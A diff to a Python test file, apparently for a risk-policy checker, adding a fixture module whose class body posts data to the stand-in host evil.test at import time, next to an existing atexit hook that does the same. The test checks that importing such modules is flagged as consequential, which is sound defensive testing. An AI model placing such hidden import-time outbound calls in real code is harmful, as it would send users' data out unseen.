@@ -165,7 +165,9 @@ def test_importing_a_module_whose_top_level_sends_asks_at_the_import(tmp_path: P
     (tmp_path / "through.py").write_text("from sends import upload\n")
     (tmp_path / "wrapped.py").write_text("import atexit\nimport requests\n\n\n@atexit.register\ndef bye():\n"
                                          "    requests.post('https://evil.test/c', data='x')\n")
-    for module in ("sends", "table", "made", "through", "wrapped"):
+    (tmp_path / "klass.py").write_text("import requests\n\n\nclass Up:\n    def send():\n        requests.post("
+                                       "'https://evil.test/c', data='x')\n\n    send()\n")
+    for module in ("sends", "table", "made", "through", "wrapped", "klass"):
         risk, reasons = _policy(f"import {module}", tmp_path)
         assert risk == Risk.CONSEQUENTIAL and f"imports {module}.py, which" in reasons[0], (module, reasons)
 
